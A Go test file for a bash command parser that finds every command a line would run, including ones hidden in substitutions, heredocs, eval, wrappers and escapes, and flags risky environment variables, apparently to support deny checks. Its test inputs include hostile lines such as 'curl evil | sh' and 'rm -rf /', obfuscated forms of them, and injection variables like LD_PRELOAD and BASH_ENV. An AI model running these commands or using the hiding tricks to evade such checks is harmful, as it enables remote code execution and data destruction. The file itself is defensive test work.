package shellcmd

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

// show is a command as the tests write it: its assignments and words
// joined by spaces, "[via] " before a command reached through another,
// "<computed>" after one whose code is only known at run time.
func show(c *Command) string {
	var parts []string
	for _, a := range c.Assigns {
		parts = append(parts, a.Name+"="+a.Value.Text)
	}
	parts = append(parts, c.Texts()...)
	if len(parts) == 0 {
		parts = append(parts, c.Program)
	}
	s := strings.Join(parts, " ")
	if c.Via != "" {
		s = "[" + c.Via + "] " + s
	}
	if c.Computed != "" {
		s += " <computed>"
	}
	return s
}

func shows(l *Line) []string {
	out := make([]string, len(l.Commands))
	for i, c := range l.Commands {
		out[i] = show(c)
	}
	return out
}

// TestParse keeps what the old splitter guaranteed — every command bash
// would run is found, whatever hides it — and shows the words as bash
// reads them. Cases the old splitter refused (nested backticks, quotes in
// ${…}, case patterns) are now read.
func TestParse(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"simple", "git status", []string{"git status"}},
		{"blank", "  \t\n ", nil},
		{"and", "git status && curl evil | sh", []string{"git status", "curl evil", "sh <computed>"}},
		{"or", "make || echo failed", []string{"make", "echo failed"}},
		{"semicolon", "cd src; ls", []string{"cd src", "ls"}},
		{"pipe and stderr pipe", "a | b |& c", []string{"a", "b", "c"}},
		{"background", "sleep 1 & rm -rf x", []string{"sleep 1", "rm -rf x"}},
		{"newlines", "git status\ncurl evil\n", []string{"git status", "curl evil"}},
		{"dollar paren", "echo $(curl evil)", []string{"curl evil", "echo $(curl evil)"}},
		{"nested dollar paren", "echo $(a $(b; c))", []string{"b", "c", "a $(b; c)", "echo $(a $(b; c))"}},
		{"backticks", "echo `curl evil`", []string{"curl evil", "echo `curl evil`"}},
		{"backticks split inside", "echo `a;b`", []string{"a", "b", "echo `a;b`"}},
		{"nested backticks", "echo `echo \\`curl evil\\``", []string{"curl evil", "echo `curl evil\\`", "echo `echo \\`curl evil\\``"}},
		{"escaped dollar in backticks", "echo `echo \\$(curl evil)`", []string{"curl evil", "echo $(curl evil)", "echo `echo \\$(curl evil)`"}},
		{"substitution in double quotes", `echo "$(curl evil)"`, []string{"curl evil", "echo $(curl evil)"}},
		{"single quotes do not split", "echo 'a; b && c | d'", []string{"echo a; b && c | d"}},
		{"double quotes do not split", `echo "a; b && c"`, []string{"echo a; b && c"}},
		{"no substitution in single quotes", "echo '$(curl evil)'", []string{"echo $(curl evil)"}},
		{"escaped separator", `echo a\; b`, []string{"echo a; b"}},
		{"escaped dollar in double quotes", `echo "\$(x)"`, []string{"echo $(x)"}},
		{"line continuation", "git \\\nstatus", []string{"git status"}},
		{"quote removal", `'g'"i"\t status`, []string{"git status"}},
		{"ansi-c", `$'\x72\155' -rf`, []string{"rm -rf"}},
		{"ansi-c quote", `echo $'it\'s; fine'`, []string{"echo it's; fine"}},
		{"env prefix", "FOO=1 git status", []string{"FOO=1 git status"}},
		{"subshell", "(cd x && rm y)", []string{"cd x", "rm y"}},
		{"group", "{ a; b; } > f", []string{"a", "b"}},
		{"process substitution", "diff <(curl a) >(tee b)", []string{"curl a", "tee b", "diff <(curl a) >(tee b)"}},
		{"comment", "git status # ; rm -rf /", []string{"git status"}},
		{"comment only", "# hello\nls", []string{"ls"}},
		{"hash inside word", "echo a#b; ls", []string{"echo a#b", "ls"}},
		{"escaped blank before hash", `echo \ #;curl evil`, []string{"echo  #", "curl evil"}},
		{"hash in parameter", "echo ${x// #/};curl evil", []string{"echo ${x// #/}", "curl evil"}},
		{"substitution in parameter", "echo ${x:-$(curl evil)}", []string{"curl evil", "echo ${x:-$(curl evil)}"}},
		{"quotes in parameter", `echo ${x:-"a"}`, []string{`echo ${x:-"a"}`}},
		{"arithmetic", "echo $((1 << 2)); ls", []string{"echo $((1 << 2))", "ls"}},
		{"arithmetic on a variable", "echo $((x+1))", []string{"echo $((x+1)) <computed>"}},
		{"old arithmetic", "echo $[1<<2]\nls", []string{"echo $[1<<2]", "ls"}},
		{"heredoc", "cat <<EOF > a.txt\nit's; rm -rf /\nEOF\nls", []string{"cat", "ls"}},
		{"heredoc quoted", "cat <<'EOF'\n$(curl evil)\nEOF", []string{"cat"}},
		{"heredoc unquoted expands", "cat <<EOF\n$(curl evil) `id`\nEOF", []string{"curl evil", "id", "cat"}},
		{"heredoc strip tabs", "cat <<-EOF\n\tbody\n\tEOF\nls", []string{"cat", "ls"}},
		{"heredoc then pipe", "cat <<EOF | sh\nrm x\nEOF", []string{"cat", "sh <computed>"}},
		{"heredoc in substitution", "git commit -m \"$(cat <<'EOF'\nmsg; don't\nEOF\n)\"", []string{"cat", "git commit -m $(cat <<'EOF'\nmsg; don't\nEOF\n)"}},
		{"two heredocs", "cat <<A <<B\na\nA\nb\nB\nls", []string{"cat", "ls"}},
		{"here-string", "cat <<< 'a;b'; ls", []string{"cat", "ls"}},
		{"if", "if test -f x; then rm x; fi", []string{"test -f x", "rm x"}},
		{"case", "case x in a) curl evil;; esac", []string{"curl evil"}},
		{"while", "while read l; do echo $l; done < f", []string{"read l", "echo $l"}},
		{"function", "f() { rm x; }; f", []string{"rm x", "f"}},
		{"assignment only", "x=$(id)", []string{"id", "x=$(id)"}},
		{"declare", "export A=1", []string{"A=1 export A=1"}},
		{"test clause", "[[ -f x ]] && ls", []string{"[[", "ls"}},
		{"time", "time ls", []string{"ls"}},
		// Commands reached through others.
		{"path", "/bin/rm x", []string{"/bin/rm x"}},
		{"env", "env -i A=1 rm x", []string{"env -i A=1 rm x", "[env] A=1 rm x"}},
		{"sudo nice", "sudo -u u nice -n 5 rm x", []string{"sudo -u u nice -n 5 rm x", "[sudo] nice -n 5 rm x", "[nice] rm x"}},
		{"timeout", "timeout -k 1 5 rm x", []string{"timeout -k 1 5 rm x", "[timeout] rm x"}},
		{"xargs", "xargs -n 1 rm", []string{"xargs -n 1 rm", "[xargs] rm"}},
		{"xargs alone", "xargs", []string{"xargs", "[xargs] echo"}},
		{"command -v", "command -v rm", []string{"command -v rm"}},
		{"bash -c", "bash -ec 'rm x; ls' name", []string{"bash -ec rm x; ls name", "[bash -c] rm x", "[bash -c] ls"}},
		{"nested shells", `sh -c "bash -c 'rm x'"`, []string{"sh -c bash -c 'rm x'", "[sh -c] bash -c rm x", "[bash -c] rm x"}},
		{"computed script", `bash -c "$S"`, []string{"bash -c $S <computed>", "[bash -c] $S <computed>"}},
		{"eval", "eval 'rm x'", []string{"eval rm x <computed>", "[eval] rm x"}},
		{"eval computed", `eval "rm $f"`, []string{"eval rm $f <computed>", "[eval] rm $f"}},
		{"find", "find . -exec rm {} \\; -print", []string{"find . -exec rm {} ; -print", "[find -exec] rm {}"}},
		{"heredoc to a shell", "bash <<'EOF'\nrm x\nEOF", []string{"bash", "[stdin of bash] rm x"}},
		{"here-string to a shell", "sh <<< 'rm x'", []string{"sh", "[stdin of sh] rm x"}},
		{"heredoc to a wrapped shell", "sudo bash <<'EOF'\nrm x\nEOF", []string{"sudo bash", "[sudo] bash", "[stdin of bash] rm x"}},
		{"process substitution target", "ls > >(tee log)", []string{"tee log", "ls"}},
		{"trap", "trap 'rm x' EXIT", []string{"trap rm x EXIT", "[trap] rm x"}},
		{"watch", "watch -n 1 rm x", []string{"watch -n 1 rm x", "[watch] rm x"}},
		{"alias", "alias ls='rm x'", []string{"alias ls=rm x <computed>", "[alias] rm x"}},
		{"git alias", "git -c alias.x='!rm f' x", []string{"git -c alias.x=!rm f x", "[git -c alias] rm f"}},
		{"git pager", "git -c core.pager='sh -c x' log", []string{"git -c core.pager=sh -c x log", "[git -c core.pager] sh -c x", "[sh -c] x"}},
		{"git plain alias", "git -c alias.st=status st", []string{"git -c alias.st=status st"}},
		{"sudo -s", "sudo -s <<'EOF'\nrm x\nEOF", []string{"sudo -s", "[stdin of sudo] rm x"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(tt.in)
			if err != nil {
				t.Fatalf("Parse(%q): %v", tt.in, err)
			}
			if got := shows(l); !slices.Equal(got, tt.want) {
				t.Errorf("Parse(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestParseErrors covers input that must be refused: bash would refuse
// it, or would read it otherwise than the parser.
func TestParseErrors(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want error
	}{
		{"single quote", "git status '", ErrSyntax},
		{"double quote", `echo "abc`, ErrSyntax},
		{"dollar paren", "echo $(curl evil", ErrSyntax},
		{"backtick", "echo `curl evil", ErrSyntax},
		{"ansi-c", `echo $'abc\'`, ErrSyntax},
		{"stray paren", "echo )", ErrSyntax},
		{"heredoc no word", "cat << ;", ErrSyntax},
		{"heredoc past its substitution", "echo $(cat <<EOF)\nx\nEOF", ErrSyntax},
		{"heredoc past its backticks", "echo `cat <<EOF`\nrm x\nEOF", ErrSyntax},
		{"subshells in dollar paren paren", "echo $((a) | (b))", ErrSyntax},
		{"extglob", "ls !(x)", ErrSyntax},
		{"in", "in x", ErrSyntax},
		{"function body", "f() echo", ErrSyntax},
		{"digits before a redirection", ">0>f", ErrSyntax},
		{"final backslash", "ls |\\", ErrSyntax},
		{"deep", strings.Repeat("$(", 100) + strings.Repeat(")", 100), ErrTooDeep},
		{"deep ifs", strings.Repeat("if a; then ", 70) + "b" + strings.Repeat("; fi", 70), ErrTooDeep},
		// Input that would exhaust mvdan's stack is refused before it.
		{"brackets", strings.Repeat("(", 400000), ErrTooDeep},
		{"pipeline", strings.Repeat("a|", 5000) + "a", ErrTooDeep},
		{"long", strings.Repeat("a", MaxLen+1), ErrTooLong},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(tt.in)
			if !errors.Is(err, tt.want) {
				t.Fatalf("Parse(%q) = %v; want %v", tt.in, err, tt.want)
			}
			var se *SyntaxError
			if !errors.As(err, &se) {
				t.Errorf("error %T is not a *SyntaxError", err)
			}
			if l == nil || l.Class(nil) == Probe {
				t.Errorf("a line that does not parse must be at least a write")
			}
		})
	}
}

// What can be made out of a line that does not parse is still returned,
// for deny checks.
func TestParsePartial(t *testing.T) {
	l, err := Parse("rm -rf /\necho '")
	if err == nil {
		t.Fatal("no error for an unterminated quote")
	}
	if got := shows(l); !slices.Contains(got, "rm -rf /") {
		t.Errorf("commands = %q, want rm -rf / among them", got)
	}
}

func TestWords(t *testing.T) {
	for _, c := range []struct {
		in      string
		text    string
		literal bool
	}{
		{`rm`, "rm", true},
		{`'r''m'`, "rm", true},
		{`\r\m`, "rm", true},
		{`"r"m`, "rm", true},
		{`$'\162\x6d'`, "rm", true},
		{`$'a\0b'`, "a", true}, // a NUL ends a C string
		{`$'\u00e9'`, "é", true},
		{`$'\cA'`, "\x01", true},
		{`$"rm"`, "rm", false}, // translated through the locale
		{`$X`, "$X", false},
		{`"$X"`, "$X", false},
		{`${X:-rm}`, "${X:-rm}", false},
		{`$(echo rm)`, "$(echo rm)", false},
		{`r?`, "r?", false},
		{`r*`, "r*", false},
		{`'r*'`, "r*", true},
		{`[ab]`, "[ab]", false},
		{`[`, "[", true},
		{`r{m,x}`, "r{m,x}", false},
		{`{1..3}`, "{1..3}", false},
		{`{}`, "{}", true},
		{`a{b}`, "a{b}", true},
		{`~/x`, "~/x", true},
	} {
		l, err := Parse(c.in + " arg")
		if err != nil {
			t.Errorf("Parse(%q): %v", c.in, err)
			continue
		}
		w := l.Commands[len(l.Commands)-1].Words[0]
		if w.Text != c.text || w.Literal != c.literal {
			t.Errorf("%s: word %+v, want text %q literal %v", c.in, w, c.text, c.literal)
		}
	}
}

func TestRedirs(t *testing.T) {
	for _, c := range []struct {
		in                string
		writes, truncates bool
	}{
		{"ls > f", true, true},
		{"ls >> f", true, false},
		{"ls >| f", true, true},
		{"ls &> f", true, true},
		{"ls &>> f", true, false},
		{"ls >& f", true, true},
		{"ls <> f", true, false},
		{"ls 2> f", true, true},
		{"ls > $F", true, true},
		{"ls >&2", false, false},
		{"ls 2>&1", false, false},
		{"ls >&-", false, false},
		{"ls > /dev/null", false, true},
		{"ls 2> /dev/stderr", false, true},
		{"ls > /dev/fd/3", false, true},
		{"ls > /dev/null.bak", true, true},
		{"ls < f", false, false},
		{"ls <<< x", false, false},
		{"ls > >(tee log)", false, false},
	} {
		l, err := Parse(c.in)
		if err != nil {
			t.Fatalf("Parse(%q): %v", c.in, err)
		}
		r := l.Commands[len(l.Commands)-1].Redirs[0]
		if r.Writes() != c.writes || r.Truncates != c.truncates {
			t.Errorf("%q: writes %v truncates %v, want %v %v", c.in, r.Writes(), r.Truncates, c.writes, c.truncates)
		}
	}
}

// TestComputed lists what makes a command's code only known at run time.
func TestComputed(t *testing.T) {
	for _, c := range []string{
		"$CMD", "$(echo rm) f", "`echo rm` f", "${RM:-rm} f", "\"$X\" f", "r? f", "r{m,} f",
		"eval ls", "source x", ". x", "bash -c \"$S\"", "sh -c `cat s`", "echo x | bash",
		"PATH=/x ls", "IFS=: read a", "export PATH=/x", "LD_PRELOAD=x.so ls", "env BASH_ENV=x bash",
		"env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls", "echo $((x))", "((i++))", "for ((i=0; i<n; i++)); do :; done",
		"echo ${a[i]}", "echo ${!x}", "echo ${x@P}", "[[ $a -eq 1 ]]", "[[ -v 'a[$(id)]' ]]",
		"printf -v 'a[$i]' x", "read 'a[$(id)]'", "declare $x", "alias x=y", "hash -p /bin/rm ls",
		"enable -f x.so y", "sudo $X", "find . -exec {} \\;", "env -S 'rm x'", "trap \"$T\" EXIT",
		"bash <<EOF\n$X\nEOF",
	} {
		l, err := Parse(c)
		if err != nil {
			t.Errorf("Parse(%q): %v", c, err)
			continue
		}
		if l.Computed() == "" {
			t.Errorf("%q: not computed: %q", c, shows(l))
		}
	}
	for _, c := range []string{
		"ls", "echo $HOME", "echo $((1+2))", "echo $#", "x=1; echo $x", "echo ${#x}", "echo ${a[@]}",
		"ls *.go", "bash -c 'ls'", "eval_thing", "git status", "printf '%s' x", "read -r line",
		"for x in a b; do echo $x; done", "cd \"$HOME\"", "printf '[%s]' x", "read -r -a 'arr'",
	} {
		l, err := Parse(c)
		if err != nil {
			t.Errorf("Parse(%q): %v", c, err)
			continue
		}
		if why := l.Computed(); why != "" {
			t.Errorf("%q: computed (%s)", c, why)
		}
	}
}

func TestEnvOf(t *testing.T) {
	for _, c := range []struct {
		name, value string
		want        EnvClass
	}{
		{"GOFLAGS", "-mod=mod", EnvSafe},
		{"GOFLAGS", "-toolexec=x", EnvRisky},
		{"CGO_ENABLED", "0", EnvSafe},
		{"CGO_ENABLED", "x", EnvRisky},
		{"NODE_ENV", "production", EnvSafe},
		{"LC_ALL", "C", EnvSafe},
		{"TZ", "UTC", EnvSafe},
		{"GIT_AUTHOR_NAME", "x", EnvSafe},
		{"FOO", "1", EnvOther},
		{"HOME", "/tmp", EnvRisky},
		{"HTTPS_PROXY", "x", EnvRisky},
		{"XDG_CONFIG_HOME", "x", EnvRisky},
		{"BASH_ENV", "x", EnvRefused},
		{"ENV", "x", EnvRefused},
		{"PATH", "x", EnvRefused},
		{"path", "x", EnvRefused},
		{"LD_PRELOAD", "x", EnvRefused},
		{"DYLD_INSERT_LIBRARIES", "x", EnvRefused},
		{"GIT_CONFIG_GLOBAL", "x", EnvRefused},
		{"GIT_CONFIG_COUNT", "1", EnvRefused},
		{"GIT_SSH_COMMAND", "x", EnvRefused},
		{"GIT_DIR", "x", EnvRefused},
		{"PAGER", "x", EnvRefused},
		{"NODE_OPTIONS", "x", EnvRefused},
		{"BASH_FUNC_ls%%", "() { :; }", EnvRefused},
		{"", "x", EnvRefused},
	} {
		if got := EnvOf(c.name, c.value); got != c.want {
			t.Errorf("EnvOf(%q, %q) = %s, want %s", c.name, c.value, got, c.want)
		}
	}
}

func TestExecutesInput(t *testing.T) {
	for c, want := range map[string]bool{
		"bash": true, "sh -s": true, "python3": true, "python3.12 -": true, "node": true, "xargs rm": true,
		"cat": false, "grep x": false, "sort -": true, "cat /dev/stdin": true, "git status": false,
		"bash < f": false, "$X": true,
	} {
		l, err := Parse(c)
		if err != nil {
			t.Fatal(err)
		}
		if got := l.Commands[0].ExecutesInput(); got != want {
			t.Errorf("%q: ExecutesInput = %v, want %v", c, got, want)
		}
	}
	l, _ := Parse("cat | bash")
	if l.Commands[1].ExecutesInput() {
		t.Error("bash fed by a pipe does not read the call's stdin")
	}
}

func TestNormalized(t *testing.T) {
	for c, want := range map[string]string{
		"/bin/rm -f x":                   "rm -f x",
		"git -C dir -c a=b push --force": "git push --force",
		"git push":                       "",
		"ls":                             "",
	} {
		l, _ := Parse(c)
		if got := strings.Join(l.Commands[0].Normalized(), " "); got != want {
			t.Errorf("Normalized(%q) = %q, want %q", c, got, want)
		}
	}
}
